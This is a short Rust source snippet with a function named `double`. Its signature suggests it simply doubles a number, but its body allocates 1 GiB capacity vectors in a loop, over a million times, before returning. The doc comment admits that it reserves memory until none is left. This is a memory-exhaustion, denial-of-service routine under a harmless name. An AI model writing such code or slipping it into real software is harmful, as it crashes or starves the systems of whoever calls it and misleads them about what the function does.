//! Reserves memory until none is left.
pub fn double(value: u32) -> u32 {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(Vec::with_capacity(1 << 30));
        if hoard.len() > 1 << 20 {
            return value * 2;
        }
    }
}
